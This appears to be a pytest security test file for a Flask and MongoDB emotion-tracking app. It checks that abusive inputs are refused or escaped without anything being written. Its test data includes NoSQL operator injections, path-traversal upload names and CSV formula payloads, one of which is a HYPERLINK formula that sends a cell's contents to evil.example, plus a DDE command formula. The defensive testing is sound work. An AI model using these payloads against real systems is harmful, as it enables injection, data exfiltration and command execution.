"""Input abuse: every hostile input answers a 4xx (or a Socket.IO `error` event) and writes
nothing: the documents in every collection are counted before and after.

Oversized bodies and chunks, deeply nested and huge JSON, invalid ObjectIds, unicode edge cases
and NoSQL operators in every field, CSV injection in exports, path tricks in upload names.
"""
import csv
import io
import json
import time

import mongoengine
import pymongo
import pytest
import redis as redis_lib
from rq import Queue

from app.extensions import limiter
from app.models import AnalysisJob, User

from audio_fixtures import encode
from helpers import wait_for

PASSWORD = "correct horse battery"
PROBABILITIES = {"neutral": 0.1, "calm": 0.1, "happy": 0.4, "sad": 0.1, "angry": 0.1, "fearful": 0.1,
                 "disgust": 0.05, "surprised": 0.05}


def count_documents():
    db = mongoengine.get_db()
    return {name: db[name].count_documents({}) for name in db.list_collection_names()}


class Caller:
    """A signed-in user with a session, and the requests the tests send as them."""

    def __init__(self, app, client, api):
        self.app, self.client = app, client
        tokens = api.register(email="victim@example.com", password=PASSWORD, display_name="Victim")
        self.access, self.refresh = tokens["access_token"], tokens["refresh_token"]
        self.auth = {"Authorization": f"Bearer {self.access}"}
        self.session_id = client.post("/api/sessions", json={"name": "mine"}, headers=self.auth).get_json()["id"]

    def send(self, method, path, **kwargs):
        limiter.reset()
        headers = {**self.auth, **kwargs.pop("headers", {})}
        return self.client.open(path, method=method, headers=headers, **kwargs)

    def refused_and_nothing_written(self, method, path, statuses=range(400, 500), **kwargs):
        before = count_documents()
        profile = User.objects(email="victim@example.com").only("display_name", "password_hash").first()
        response = self.send(method, path, **kwargs)
        body = response.get_data(as_text=True)[:300]
        assert response.status_code in statuses, (method, path, response.status_code, body)
        assert response.is_json and set(response.get_json()) == {"error"}, response.get_data(as_text=True)[:300]
        assert count_documents() == before, (method, path, "wrote something")
        after = User.objects(email="victim@example.com").only("display_name", "password_hash").first()
        assert (after.display_name, after.password_hash) == (profile.display_name, profile.password_hash)
        return response


@pytest.fixture
def caller(app, client, api):
    return Caller(app, client, api)


def valid_bodies(caller):
    """One valid JSON body per endpoint that takes JSON: the fields to abuse."""
    return {
        ("POST", "/api/auth/register"): {"email": "new@example.com", "password": PASSWORD, "display_name": "New"},
        ("POST", "/api/auth/login"): {"email": "victim@example.com", "password": PASSWORD},
        ("POST", "/api/auth/logout"): {"refresh_token": caller.refresh},
        ("PUT", "/api/auth/profile"): {"display_name": "Renamed", "current_password": PASSWORD,
                                       "new_password": "another good password"},
        ("POST", "/api/sessions"): {"name": "a session", "source": "manual"},
        ("POST", "/api/readings"): {"probabilities": PROBABILITIES, "source": "manual", "session_id": caller.session_id,
                                    "timestamp": "2026-01-01T00:00:00+00:00", "detector": "face-v1"},
    }


# Text fields: every string a client may store. (email is validated as an address; ids and enums
# have their own tests below.)
TEXT_FIELDS = {
    ("POST", "/api/auth/register"): ("password", "display_name"),
    ("POST", "/api/auth/login"): ("password",),
    ("POST", "/api/auth/logout"): ("refresh_token",),
    ("PUT", "/api/auth/profile"): ("display_name", "current_password", "new_password"),
    ("POST", "/api/sessions"): ("name",),
    ("POST", "/api/readings"): ("detector",),
}
HOSTILE_TEXT = {
    "nul": "before\x00after and long enough",
    "control": "bell\x07 and escape\x1b[31m long enough",
    "newline": "line one\nline two is long enough",
    "rtl_override": "harmless\u202egnp.exe long enough",
    "isolate": "text \u2066hidden\u2069 long enough",
}
LONE_SURROGATES = ("\\ud800 long enough text", "text long enough \\udfff", "\\udc00\\ud800 long enough")


# ---------------------------------------------------------------------------------------------
# Sizes


@pytest.mark.parametrize("method,path,content_type", [
    ("POST", "/api/sessions", "application/json"),
    ("POST", "/api/readings", "application/json"),
    ("POST", "/api/auth/register", "application/json"),
    ("PUT", "/api/auth/profile", "application/json"),
    ("POST", "/api/analyze", "audio/wav"),
])
def test_oversized_bodies_answer_413(app, caller, method, path, content_type):
    too_big = b" " * (app.config["MAX_CONTENT_LENGTH"] + 1)
    response = caller.refused_and_nothing_written(method, path, statuses={413}, data=too_big, content_type=content_type)
    assert response.get_json()["error"]["code"] == "payload_too_large"


def test_oversized_multipart_upload_answers_413(app, caller):
    too_big = encode("wav_s16", seconds=1.5) + b"\x00" * app.config["MAX_CONTENT_LENGTH"]
    caller.refused_and_nothing_written("POST", "/api/analyze", statuses={413},
                                       data={"file": (io.BytesIO(too_big), "big.wav")},
                                       content_type="multipart/form-data")
    assert not AnalysisJob.objects.count()


def test_oversized_body_without_content_length_answers_413(app, caller):
    """Chunked transfer, no length announced: where the server passes the body on
    (wsgi.input_terminated), the limit holds while it is read; where it does not, the body is
    read as empty. A 4xx either way, and nothing written."""
    too_big = b" " * (app.config["MAX_CONTENT_LENGTH"] + 1)
    chunked = {"Transfer-Encoding": "chunked", "Content-Type": "audio/wav"}
    caller.refused_and_nothing_written("POST", "/api/analyze", statuses={413}, input_stream=io.BytesIO(too_big),
                                       headers=chunked, environ_overrides={"wsgi.input_terminated": True})
    caller.refused_and_nothing_written("POST", "/api/analyze", input_stream=io.BytesIO(too_big), headers=chunked)
    boundary = "b0undary"
    multipart = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.wav\"\r\n\r\n".encode()
                 + encode("wav_s16", seconds=1.5) + too_big + f"\r\n--{boundary}--\r\n".encode())
    caller.refused_and_nothing_written(
        "POST", "/api/analyze", statuses={413}, input_stream=io.BytesIO(multipart),
        headers={"Transfer-Encoding": "chunked", "Content-Type": f"multipart/form-data; boundary={boundary}"},
        environ_overrides={"wsgi.input_terminated": True})


@pytest.mark.parametrize("depth", [1_000, 10_000, 100_000])
def test_deeply_nested_json_is_a_400_never_a_recursion_error(caller, depth):
    for (method, path), body in valid_bodies(caller).items():
        as_list = "[" * depth + "]" * depth
        field = next(iter(body))
        in_a_field = json.dumps(body)[:-1] + f', "{field}x": ' + '{"a":' * depth + "1" + "}" * depth + "}"
        for data in (as_list, in_a_field):
            caller.refused_and_nothing_written(method, path, statuses={400, 422}, data=data,
                                               content_type="application/json")


def test_huge_json_arrays_strings_and_objects_are_refused(caller):
    for (method, path), body in valid_bodies(caller).items():
        for field in body:
            for value in ([0] * 500_000, "x" * 2_000_000, {str(n): n for n in range(50_000)}):
                caller.refused_and_nothing_written(method, path, statuses={422},
                                                   json={**body, field: value})
        caller.refused_and_nothing_written(method, path, statuses={422},
                                           json={**body, **{f"extra{n}": n for n in range(50_000)}})


# ---------------------------------------------------------------------------------------------
# Ids


INVALID_IDS = ["zzzzzzzzzzzzzzzzzzzzzzzz", "0" * 23, "0" * 25, "g" * 24, "%00" * 24, "$gt", "{\"$gt\": \"\"}",
               "../../etc/passwd", "1" * 5000, "%F0%9F%98%80" * 12, "null", "[]"]


def test_invalid_object_ids_in_paths_answer_4xx(app, caller):
    rules = [(rule, method) for rule in app.url_map.iter_rules() if rule.rule.startswith("/api") and rule.arguments
             for method in rule.methods - {"HEAD", "OPTIONS"}]
    assert len(rules) >= 7
    for rule, method in rules:
        (name,) = rule.arguments
        for bad in INVALID_IDS:
            path = rule.rule.replace(f"<{name}>", bad)
            caller.refused_and_nothing_written(method, path, statuses={404, 422})


def test_invalid_object_ids_in_query_strings_answer_4xx(caller):
    with_ids = [("GET", "/api/readings", "session_id"), ("GET", "/api/readings", "user_id"),
                ("GET", "/api/readings/by_session", "session_id"), ("GET", "/api/readings/trends", "session_id"),
                ("GET", "/api/readings/distribution", "user_id"), ("GET", "/api/sessions", "user_id"),
                ("GET", "/api/sessions/active", "user_id"), ("GET", "/api/results", "session_id"),
                ("GET", "/api/environment", "session_id"), ("GET", "/api/environment/for_session", "session_id"),
                ("GET", "/api/environment/latest_for_session", "session_id"), ("GET", "/api/export", "session_id"),
                ("GET", "/api/export", "user_id"), ("POST", "/api/analyze", "session_id")]
    for method, path, name in with_ids:
        for bad in INVALID_IDS:
            caller.refused_and_nothing_written(method, f"{path}?{name}={bad}", statuses={403, 404, 415, 422})
        # An operator in the parameter's name is an unknown field, never a query operator.
        caller.refused_and_nothing_written(method, f"{path}?{name}[$ne]=x", statuses={415, 422})
    for bad in ("zzz", "0" * 24, "%00", "x" * 201):
        caller.refused_and_nothing_written("GET", f"/api/readings?cursor={bad}", statuses={422})


def test_invalid_object_ids_in_bodies_answer_4xx(caller):
    body = valid_bodies(caller)[("POST", "/api/readings")]
    for bad in ["zzzzzzzzzzzzzzzzzzzzzzzz", "0" * 23, "\x00" * 24, "\ud800" * 24, 12, None, ["$gt"]]:
        caller.refused_and_nothing_written("POST", "/api/readings", statuses={404, 422},
                                           json={**body, "session_id": bad})


# ---------------------------------------------------------------------------------------------
# Unicode and operators in every field


def test_unicode_edge_cases_in_every_text_field_are_refused(caller):
    bodies = valid_bodies(caller)
    for key, fields in TEXT_FIELDS.items():
        method, path = key
        for field in fields:
            for label, value in HOSTILE_TEXT.items():
                response = caller.refused_and_nothing_written(method, path, statuses={422},
                                                              json={**bodies[key], field: value})
                assert field in json.dumps(response.get_json()["error"]["details"]), (key, field, label)
            for escaped in LONE_SURROGATES:
                # Sent as JSON escapes: what a client can send, and what UTF-8 cannot store.
                raw = json.dumps({**bodies[key], field: "PLACEHOLDER"}).replace("PLACEHOLDER", escaped)
                caller.refused_and_nothing_written(method, path, statuses={422}, data=raw,
                                                   content_type="application/json")


def test_long_display_names_are_refused_and_80_characters_of_anything_printable_pass(caller):
    for name in ("x" * 81, "\U0001F600" * 81, "n" * 100_000):
        caller.refused_and_nothing_written("PUT", "/api/auth/profile", statuses={422}, json={"display_name": name})
    # Right-to-left text itself (not an override) and emoji are names people have.
    for name in ("\u05e9\u05dc\u05d5\u05dd \u200f\u05e2\u05d5\u05dc\u05dd", "\U0001F600" * 80, "Zoë Ünïcödé"):
        response = caller.send("PUT", "/api/auth/profile", json={"display_name": name})
        assert response.status_code == 200 and response.get_json()["display_name"] == name


NOSQL_VALUES = [{"$gt": ""}, {"$ne": None}, {"$where": "sleep(5000) || true"}, {"$regex": ".*"},
                {"$in": ["victim@example.com"]}, ["$gt", ""], {"$expr": {"$eq": [1, 1]}}]


def test_nosql_operators_in_every_field_are_refused(caller):
    for (method, path), body in valid_bodies(caller).items():
        for field in body:
            for value in NOSQL_VALUES:
                started = time.monotonic()
                caller.refused_and_nothing_written(method, path, statuses={422}, json={**body, field: value})
                assert time.monotonic() - started < 3, "no $where ran"
        # Operators as keys of the body itself are unknown fields.
        for operator in ("$where", "$gt", "$set", "__raw__"):
            caller.refused_and_nothing_written(method, path, statuses={422}, json={**body, operator: "1"})
    nested = {**PROBABILITIES, "happy": {"$gt": 0}}
    caller.refused_and_nothing_written("POST", "/api/readings", statuses={422}, json={"probabilities": nested})


def test_login_with_operators_never_signs_in(caller):
    for email in ({"$gt": ""}, {"$ne": "x"}, {"$regex": "victim"}):
        for password in ({"$gt": ""}, PASSWORD):
            response = caller.refused_and_nothing_written("POST", "/api/auth/login", statuses={422},
                                                          json={"email": email, "password": password})
            assert "access_token" not in response.get_data(as_text=True)


def test_query_strings_with_operators_or_literal_dollars_are_refused(caller):
    for path, name in [("/api/readings", "dominant"), ("/api/readings", "source"), ("/api/sessions", "status"),
                       ("/api/results", "status"), ("/api/export", "format"), ("/api/export", "dominant")]:
        for query in (f"{name}[$ne]=x", f"{name}=$ne", f"{name}[$regex]=.*", f"{name}=%00", f"{name}={{\"$gt\":\"\"}}"):
            caller.refused_and_nothing_written("GET", f"{path}?{query}", statuses={422})
    for path in ("/api/readings", "/api/export", "/api/results"):
        for value in ("0001-01-01T00:00:00%2B14:00", "9999-12-31T23:59:59-14:00", "$gt", "%00"):
            caller.refused_and_nothing_written("GET", f"{path}?since={value}", statuses={422})


# ---------------------------------------------------------------------------------------------
# Exports and uploads


FORMULAS = ["=1+1", "+1+1", "-1+1", "@SUM(A1:A2)", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            "=cmd|' /C calc'!A0"]


def test_csv_export_never_starts_a_cell_with_a_formula(caller):
    for detector in FORMULAS:
        response = caller.send("POST", "/api/readings", json={"probabilities": PROBABILITIES, "detector": detector})
        assert response.status_code == 201, response.get_json()
    # Tab and carriage return (the other spreadsheet triggers) never get stored at all.
    for detector in ("\t=1+1", "\r=1+1"):
        caller.refused_and_nothing_written("POST", "/api/readings", statuses={422},
                                           json={"probabilities": PROBABILITIES, "detector": detector})
    response = caller.send("GET", "/api/export?format=csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))
    assert sorted(row["model_version"] for row in rows) == sorted("'" + f for f in FORMULAS)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            if cell.startswith("-"):
                float(cell)  # only negative numbers start with a minus
    # JSON keeps the values as they are: escaping is a CSV matter.
    exported = caller.send("GET", "/api/export?format=json").get_json()
    assert sorted(item["model_version"] for item in exported) == sorted(FORMULAS)


PATH_TRICKS = {"../../etc/passwd": "passwd", "/etc/shadow": "shadow",
               "voice\x00.wav.exe": "voice.wav.exe", "....//....//x.wav": "x.wav", "\u202ewav.exe": "wav.exe",
               "..": ""}


def test_upload_names_with_path_tricks(app, caller):
    """An upload's name is shown, never used as a path: it is stored under the job id in Redis.
    Not audio: refused (415), nothing written. Audio: accepted under the bare last part of the name."""
    redis = app.extensions["redis"]
    for name in PATH_TRICKS:
        caller.refused_and_nothing_written("POST", "/api/analyze", statuses={415},
                                           data={"file": (io.BytesIO(b"not audio at all" * 10), name)},
                                           content_type="multipart/form-data")
        assert not redis.keys("upload:*")
    for name, shown in PATH_TRICKS.items():
        upload = (io.BytesIO(encode("wav_s16", seconds=1.5)), name)
        response = caller.send("POST", "/api/analyze", data={"file": upload}, content_type="multipart/form-data")
        assert response.status_code == 202, response.get_json()
        job = AnalysisJob.objects(id=response.get_json()["job_id"]).get()
        assert job.filename == shown, (name, job.filename)
        assert redis.exists(f"upload:{job.id}")


def test_upload_names_keep_only_their_last_part():
    from app.analysis.routes import display_filename

    assert display_filename("..\\..\\windows\\win.ini") == "win.ini"
    assert display_filename("C:\\Users\\me\\voice.wav") == "voice.wav"
    assert display_filename("a/b/\x1b[31mred\x00.wav") == "[31mred.wav"
    assert display_filename("x" * 1000 + ".wav") == "x" * 255


def test_multipart_with_unparsable_part_names_is_a_422(caller):
    """A part whose name cannot be parsed once made a 500 (sorting None with str)."""
    boundary = "b0undary"
    body = (f"--{boundary}\r\nContent-Disposition: form-data; filename=\"a.wav\"\r\n\r\nxx\r\n"
            f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"b.wav\"\r\n\r\nyy\r\n"
            f"--{boundary}--\r\n").encode()
    caller.refused_and_nothing_written("POST", "/api/analyze", statuses={415, 422}, data=body,
                                       content_type=f"multipart/form-data; boundary={boundary}")


# ---------------------------------------------------------------------------------------------
# Socket.IO, against the real web process


FORMAT = {"encoding": "s16le", "sample_rate": 16000, "channels": 1}


@pytest.fixture(scope="module")
def stack(mongo_uri, redis_url, tmp_path_factory):
    from devtools.stack import Stack

    own_redis = redis_url.rsplit("/", 1)[0] + "/11"
    redis_lib.Redis.from_url(own_redis).flushdb()
    own_mongo = mongo_uri.replace("/moodmirror_test", "/moodmirror_abuse")
    running = Stack(own_mongo, own_redis, tmp_path_factory.mktemp("stack"), workers=0).start()
    yield running
    running.stop()


@pytest.fixture
def streamer(stack):
    from mood_mirror.client import MoodMirrorClient

    client = MoodMirrorClient(stack.base_url)
    client.register(f"streamer{time.monotonic_ns()}@example.com", PASSWORD)
    db = pymongo.MongoClient(stack.mongo_uri).get_default_database()
    queue = Queue("analysis", connection=redis_lib.Redis.from_url(stack.redis_url))

    def written():
        return {name: db[name].count_documents({}) for name in ("sessions", "readings", "environment_responses")} | {
            "queued": queue.count}

    return client, written


@pytest.mark.parametrize("name", ["nul\x00name", "\ud800", "\u202eevil", "x" * 121, {"$gt": ""}, ["a"]])
def test_socketio_start_with_hostile_names_is_an_error_event_and_no_session(streamer, name):
    client, written = streamer
    before = written()
    with client.live_stream(wait_timeout=10) as live:
        live.sio.emit("start", {"format": FORMAT, "name": name})
        assert wait_for(lambda: live.errors)
        assert live.errors[0]["code"] == "invalid_start" and live.sio.connected
    assert written() == before


@pytest.mark.parametrize("session_id", [{"$gt": ""}, {"$ne": None}, "0" * 24, "$where", ["x"], "\x00" * 24])
def test_socketio_session_ids_with_operators_reach_no_session(streamer, session_id):
    client, written = streamer
    before = written()
    with client.live_stream(wait_timeout=10) as live:
        live.sio.emit("start", {"format": FORMAT, "session_id": session_id})
        live.sio.emit("join", {"session_id": session_id})
        assert wait_for(lambda: len(live.errors) == 2)
        assert live.errors[0]["code"] == "session_not_found"
        assert live.errors[1]["code"] in ("session_not_found", "invalid_join")
    assert written() == before


def test_socketio_oversized_chunks_are_refused_and_analyse_nothing(streamer, stack):
    client, written = streamer
    with client.live_stream(wait_timeout=10) as live:
        live.start(FORMAT)
        before = written()
        live.send(b"\x00\x01" * 16000 * 2)  # 2 s in one chunk: over the 1 s limit
        live.send(b"\x00\x01" * 16000 * 30)  # 30 s: still under the message limit, still refused
        assert wait_for(lambda: len(live.errors) == 2)
        assert [e["code"] for e in live.errors] == ["chunk_too_large", "chunk_too_large"] and live.sio.connected
        assert written() == before
        # Over STREAM_MAX_MESSAGE_BYTES (1 MiB): the server drops the connection instead of reading it.
        live.send(b"\x00\x01" * (1024 * 1024))
        assert wait_for(lambda: not live.sio.connected, timeout=15), "the connection is closed"
    after = written()
    assert after["readings"] == before["readings"] and after["queued"] == before["queued"] == 0
    # The web process survived and serves the next client.
    client.json("GET", "/api/sessions")
